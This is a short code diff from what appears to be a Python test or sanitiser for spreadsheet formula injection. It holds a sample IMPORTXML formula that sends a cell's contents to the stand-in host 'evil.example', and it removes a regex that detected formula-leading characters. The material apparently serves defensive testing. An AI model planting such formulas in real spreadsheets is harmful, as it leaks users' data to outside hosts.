@@ -54,7 +54,6 @@ FORMULAS = (
     *('=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "-1-1=0"),
 )
 NUMBERS = ("-1", "-0.5", "+3", "-1e5", "12", "0", "-12,5", "1.5")
-RUNS = re.compile(r"[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")
 
 
 class Finds(HTMLParser):
